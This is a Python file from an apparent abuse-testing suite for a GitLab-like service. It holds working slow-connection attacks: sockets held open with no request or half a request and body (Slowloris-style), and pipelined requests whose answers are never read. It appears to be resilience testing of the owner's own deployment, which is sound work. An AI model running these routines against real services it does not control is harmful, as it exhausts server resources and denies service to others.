"""Connections that are held for nothing."""

import asyncio
from collections import Counter

from scripts.abuse import repositories
from scripts.abuse.place import Place, again_and_again, connect, head

EACH = 150


async def idle_connections(place: Place, answers: "Counter[str]") -> None:
    """Silence, half a head, half a body: at the API and at the edge."""
    half_a_body = head(
        "POST", f"{place.api_url}/api/v4/projects", content_length="1000", private_token=place.attacker
    )
    openings = [
        (url, said)
        for url in (place.api_url, place.edge_url)
        for said in (b"", b"GET / HTTP/1.1\r\nhost: x\r\n", half_a_body)
    ]

    async def hold(number: int) -> str:
        url, said = openings[number % len(openings)]
        reader, writer = await connect(url)
        answers["opened"] += 1
        try:
            writer.write(said)
            heard = await reader.read(100)
            return heard.split()[1].decode() if heard.startswith(b"HTTP/1.1 ") else "closed"
        finally:
            writer.close()

    await again_and_again(EACH * len(openings), hold, answers, rest=0.2)


async def unread_answers(place: Place, answers: "Counter[str]") -> None:
    """Requests one after the other on a connection whose answers nobody takes."""
    urls = [
        f"{place.project(place.public)}/repository/commits?per_page=100",
        f"{place.edge_url}/{place.public}/-/raw/main/{repositories.MEDIUM_FILE}",
    ]

    async def ask(number: int) -> str:
        url = urls[number % len(urls)]
        _, writer = await connect(url)
        answers["opened"] += 1
        try:
            while True:
                writer.write(head("GET", url) * 50)
                async with asyncio.timeout(5):
                    await writer.drain()
        except TimeoutError:
            await asyncio.sleep(20)
            return "held"
        finally:
            writer.transport.abort()

    await again_and_again(EACH, ask, answers, rest=0.2)
